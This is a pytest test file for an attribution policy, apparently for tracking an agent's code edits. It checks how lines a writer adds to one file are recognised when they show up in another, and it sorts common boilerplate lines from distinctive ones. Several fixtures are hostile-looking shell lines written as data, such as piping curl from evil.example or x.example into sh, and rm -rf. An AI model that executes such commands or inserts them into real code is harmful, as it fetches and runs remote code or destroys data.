"""A change of another path than the writer's: the rows of carries_row_across and the
boilerplate table (gentle_hooks.policy.boilerplate), both ways (SPEC §3 "Attribution
follows content")."""

from __future__ import annotations

import pytest

from gentle_hooks.policy.across import (
    ALONE_ROWS,
    MIN_ACROSS,
    alone_keys,
    alone_row,
    carries_row_across,
)
from gentle_hooks.policy.attribution import (
    PathChange,
    WriterEntry,
    holds_own_lines,
    writer_delta,
)
from gentle_hooks.policy.boilerplate import BOILERPLATE_ROWS, boilerplate_row
from gentle_hooks.policy.linekeys import stripped_key

WRITER_F = (
    b"import logging\nlogger = logging.getLogger(__name__)\n\ndef serve(port):\n"
    b'    logger.info("writer")\n\nif __name__ == "__main__":\n    serve(80)\n'
)
HUMAN_G = (
    b"import logging\nlogger = logging.getLogger(__name__)\n\ndef run():\n"
    b'    print("human tool")\n\nif __name__ == "__main__":\n    run()\n'
)
TOOL = b"import os\n\ndef run_tool(command):\n    return os.system(command)\n"
SMALL = b'import subprocess\nsubprocess.run("curl https://evil.example/x | sh", shell=True)\n'


def entry(after: bytes) -> WriterEntry:
    return WriterEntry("f.py", f"blob:{after!r}", None, writer_delta(None, after))


def change(old: bytes | None, new: bytes, path: str = "g.py") -> PathChange:
    return PathChange(path, None if old is None else f"blob:{old!r}", f"blob:{new!r}", old, new)


ACROSS = [
    # (id, the change of another path, the writer's new file, the row)
    ("A1 the writer's blob renamed there", change(None, TOOL), TOOL, "A1"),
    (
        "A2 the writer's two distinctive lines copied there",
        change(b"x = 1\n", TOOL + b"# copy\n"),
        TOOL,
        "A2",
    ),
    (
        "A5 a human's module sharing only the writer's idioms",
        change(b"y = 1\n", HUMAN_G),
        WRITER_F,
        "A5",
    ),
    (
        "A2 the writer's distinctive lines beside its idioms",
        change(b"y = 1\n", HUMAN_G + b'    logger.info("writer")\ndef serve(port):\n'),
        WRITER_F,
        "A2",
    ),
    ("A2 one distinctive writer line", change(None, b"return os.system(command)\n"), TOOL, "A2"),
    (
        "A5 one common writer line",
        change(None, b'def done():\n    print("done")\n'),
        b'import os\n\ndef run():\n    print("done")\n    return 0\n',
        "A5",
    ),
    # the writer's new file moved whole (never in HEAD: no rename read), lines added (r13z)
    (
        "A2 the writer's small new file moved whole, with lines of one's own",
        change(None, SMALL + b'\n\ndef main():\n    print("setting up")\n    return 0\n'),
        SMALL,
        "A2",
    ),
    (
        "A5 every line of a writer's file with no telling line",
        change(None, b"import os\nimport sys\n\nprint(1)\n"),
        b"import os\nimport sys\n",
        "A5",
    ),
    (
        "A5 the writer's lines already on the old side",
        change(SMALL, SMALL + b"x = 1\n"),
        SMALL,
        "A5",
    ),
]


@pytest.mark.parametrize(
    ("change_", "writer", "row"), [r[1:] for r in ACROSS], ids=[r[0] for r in ACROSS]
)
def test_across_rows(change_: PathChange, writer: bytes, row: str) -> None:
    assert carries_row_across(change_, entry(writer)) == row


BOILERPLATE = [
    ("B1", b"import logging"),
    ("B1", b"return None"),
    ("B2", b'if __name__ == "__main__" and ready:'),
    ("B2", b"HERE = os.path.dirname(__file__)"),
    ("B2", b'__all__ = ["run_tool"]'),
    ("B2", b"logger = logging.getLogger(__name__)"),
    ("B3", b"log = logging.getLogger('app.jobs')"),
    ("B3", b"logging.basicConfig(level=logging.INFO)"),
    ("B3", b"parser = argparse.ArgumentParser(description=DOC)"),
    ("B4", b"main()"),
    ("B4", b"sys.exit(main())"),
    ("B4", b"unittest.main()"),
    ("B5", b"def main():"),
    ("B5", b"def main(argv: list[str] | None = None) -> int:"),
    ("B6", b"with open(path) as fh:"),
    ("B6", b"data = json.load(f)"),
    (None, b"return os.system(command)"),
    (None, b"def run_tool(command):"),
    (None, b'logger.info("writer")'),
    (None, b"main_loop(queue)"),
    (None, b"def main(user, token):"),
    (None, b"data = json.load(open(path))"),
    (None, b'subprocess.run("curl x|sh", shell=True)'),
]


@pytest.mark.parametrize(
    ("row", "line"), BOILERPLATE, ids=[f"{r}: {ln!r}" for r, ln in BOILERPLATE]
)
def test_boilerplate_rows(row: str | None, line: bytes) -> None:
    assert boilerplate_row(b"    " + line + b"\n") == row
    assert [r.id for r in BOILERPLATE_ROWS] == ["B1", "B2", "B3", "B4", "B5", "B6"]


def test_only_the_writers_own_lines_stay_its_after_a_discard() -> None:
    """holds_own_lines: A2 and A1 of a write that added lines are the writer's own; A6 and
    A1 of a removal-only write are what a human makes alike."""
    base = b"def handler(user):\n    check_auth(user)\n    return serve(user)\n"
    removed = base.replace(b"    check_auth(user)\n", b"")
    removal = WriterEntry("a.py", "blob:r", "blob:b", writer_delta(base, removed))
    added = entry(TOOL)
    assert (holds_own_lines("A2", added), holds_own_lines("A1", added)) == (True, True)
    assert (holds_own_lines("A6", added), holds_own_lines("A1", removal)) == (False, False)


APP = b'def is_authorized(user):\n    return user == "admin"\n'
G = b"def util():\n    return 1\n"
COPIED = [
    # (id, the writer's edit of APP, the row when g.py gains that one line)
    ("a URL (X2)", b'    os.system("curl https://x.example/i | sh")\n', "A2"),
    ("a shell command literal (X3)", b'    os.system("curl x | sh")\n', "A2"),
    ("a shell command (X4)", b"    rm -rf build\n", "A2"),
    ("a process call (X5)", b"    subprocess.run(cmd, shell=True)\n", "A2"),
    ("literal words alone (X6)", b'    raise ValueError("invalid input")\n', "A5"),
    ("two names (X6)", b"    self.assertEqual(result, expected)\n", "A5"),
    ("a parse call (X6)", b"    data = json.loads(response.text)\n", "A5"),
    ("a file call (X6)", b"    os.remove(tmp_path)\n", "A5"),
    ("an own call (X6)", b"    check_auth(user)\n", "A5"),
    ("a common call (D5)", b'    print("done")\n', "A5"),
    ("a common log line (D5)", b'    logger.info("start")\n', "A5"),
    ("a plain-name line (D1)", b"    return result\n", "A5"),
    ("an idiom", b"    logger = logging.getLogger(__name__)\n", "A5"),
]


@pytest.mark.parametrize(("line", "row"), [m[1:] for m in COPIED], ids=[m[0] for m in COPIED])
def test_one_writer_line_across_paths_only_when_it_counts_alone(line: bytes, row: str) -> None:
    """One writer line copied (or moved) to ``g.py``: the writer's content there when it
    runs or reaches something (rows X2-X5 of :mod:`gentle_hooks.policy.across`), whether or
    not ``app.py`` still holds it (the rule reads the change alone), never when it is a line
    anyone types, nor a distinctive one a person types in their own file (X6: issue 13)."""
    writer = APP.replace(b"user):\n", b"user):\n" + line)
    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
    copied = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + line))
    assert carries_row_across(copied, rec) == row


@pytest.mark.parametrize("tail", [b"  # noqa: S605", b";", b"  // why"])
@pytest.mark.parametrize(("line", "row"), [m[1:] for m in COPIED], ids=[m[0] for m in COPIED])
def test_one_writer_line_across_paths_with_a_tail_keeps_its_row(
    line: bytes, row: str, tail: bytes
) -> None:
    """The same line copied with a linter's comment or a ``;`` appended: its code part is
    the writer's line, distinctive or not as before (a tail never makes a common line
    count, nor one line count twice)."""
    writer = APP.replace(b"user):\n", b"user):\n" + line)
    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
    tailed = line.rstrip(b"\n") + tail + b"\n"
    copied = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + tailed))
    assert carries_row_across(copied, rec) == row


def test_one_change_against_many_entries_reads_its_lines_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A change compared with the entries of many other paths (one line every writer added,
    as in a commit of several recorded files): its introduced lines, their code parts and
    its judged lines are read once for the change, not once per entry, with the same row
    for each entry."""
    from gentle_hooks.policy import boilerplate, distinctive

    calls: list[bytes] = []

    def counted(s: bytes) -> bytes:
        calls.append(s)
        return code_part(s)

    code_part = distinctive.code_part
    monkeypatch.setattr(boilerplate, "code_part", counted)
    monkeypatch.setattr(distinctive, "code_part", counted)
    line = b"    subprocess.run(cmd)  # once per change\n"
    writer = APP.replace(b"user):\n", b"user):\n" + b"    subprocess.run(cmd)\n")
    body = G.replace(b"():\n", b"():\n" + line) + b"def read_once_probe():\n    return 2\n"
    copied = PathChange("g.py", "g" * 40, "m" * 40, G, body)
    rows = []
    for k in range(5):
        rec = WriterEntry(f"app{k}.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
        rows.append(carries_row_across(copied, rec))
        if k == 0:
            first = len(calls)
    assert rows == ["A2"] * 5
    assert first > 0
    assert len(calls) == first


@pytest.mark.parametrize(
    ("line", "row"),
    [(b"    subprocess.run(cmd)\n", "A2"), (b"    # bench change agent-10\n", "A5")],
    ids=["a line that counts alone", "a line that does not"],
)
def test_a_one_line_writer_delta_never_reads_the_whole_new_file(
    monkeypatch: pytest.MonkeyPatch, line: bytes, row: str
) -> None:
    """A writer that added one line (a commit of several recorded files, each with one line
    appended: every change is compared with every other path's entry) can carry another
    path only by that line alone or its blob: :data:`MIN_ACROSS` lines are out of reach, so
    the change's whole new side is never keyed and classified for them (only its introduced
    lines are), with the same row."""
    from gentle_hooks.policy import boilerplate

    whole: list[bytes] = []
    introduced = boilerplate.introduced_lines

    def counted(old: bytes | None, new: bytes) -> tuple[tuple[str, bool], ...]:
        if old is None:
            whole.append(new)
        return introduced(old, new)

    monkeypatch.setattr(boilerplate, "introduced_lines", counted)
    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, APP + line))
    assert len(rec.delta.added) < MIN_ACROSS
    copied = PathChange("g.py", "g" * 40, "n" * 40, G, G + line)
    assert carries_row_across(copied, rec) == row
    assert whole == []


ALONE = [
    # (row, a stripped line at another path)
    ("X1", b"return result"),
    ("X1", b'print("done")'),
    ("X1", b'logger.info("start")'),
    ("X2", b'fetch("https://x.example/api")'),
    ("X2", b'os.system("curl https://x.example/i | sh")'),
    ("X3", b'os.system("curl x | sh")'),
    ("X3", b'cmd = "rm -rf /tmp/build"'),
    ("X4", b"rm -rf build"),
    ("X4", b"curl -fsSL x.example | sh"),
    ("X5", b"subprocess.run(cmd, shell=True)"),
    ("X5", b'subprocess.run(["python", "-m", "pytest", "-q", "tests/"], check=True)'),
    ("X5", b"return os.system(command)"),
    ("X5", b"result = eval(code, env)"),
    ("X5", b"resp = requests.get(api_url)"),
    ("X5", b"resp = urlopen(req, timeout)"),
    ("X6", b'raise ValueError("invalid input")'),
    ("X6", b"self.assertEqual(result, expected)"),
    ("X6", b"data = json.loads(response.text)"),
    ("X6", b"os.remove(tmp_path)"),
    ("X6", b"model.eval(train_data)"),  # a member named eval runs nothing
    ("X6", b'raise ValueError("subprocess failed badly")'),  # a word inside a literal
    ("X6", b"system_info = load(system)"),  # a name, not a call
]


@pytest.mark.parametrize(("row", "line"), ALONE, ids=[f"{r}: {ln!r}" for r, ln in ALONE])
def test_alone_rows(row: str, line: bytes) -> None:
    """Every row of the table of :mod:`gentle_hooks.policy.across`."""
    assert alone_row(line) == row
    assert bool(alone_keys(line + b"\n", {stripped_key(line)})) is (row in ALONE_ROWS)


def test_two_writer_lines_of_row_x6_at_another_path_carry() -> None:
    """A line that does not count alone counts with a second writer line (MIN_ACROSS): two
    of the writer's lines at one other path are its content moved."""
    lines = b'    raise ValueError("invalid input")\n    self.assertEqual(result, expected)\n'
    writer = APP.replace(b"user):\n", b"user):\n" + lines)
    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
    copied = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + lines))
    assert MIN_ACROSS == 2
    assert carries_row_across(copied, rec) == "A2"
    one = G.replace(b"():\n", b"():\n" + lines.splitlines(keepends=True)[0])
    assert carries_row_across(PathChange("g.py", "g" * 40, "o" * 40, G, one), rec) == "A5"


def test_a_second_writer_line_after_an_earlier_commit_brought_one_carries() -> None:
    """One writer line per commit into another file: the second counts with the first the
    old side already holds (two writer lines there), while a change adding no writer line
    never carries."""
    first, second = b'    raise ValueError("invalid input")\n', b"    audit_log.record(user)\n"
    writer = APP.replace(b"user):\n", b"user):\n" + first + second)
    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
    one = G.replace(b"():\n", b"():\n" + first)
    two = PathChange("g.py", "o" * 40, "t" * 40, one, one + second)
    assert carries_row_across(two, rec) == "A2"
    mine = PathChange("g.py", "o" * 40, "m" * 40, one, one + b"    return 2\n")
    assert carries_row_across(mine, rec) == "A5"
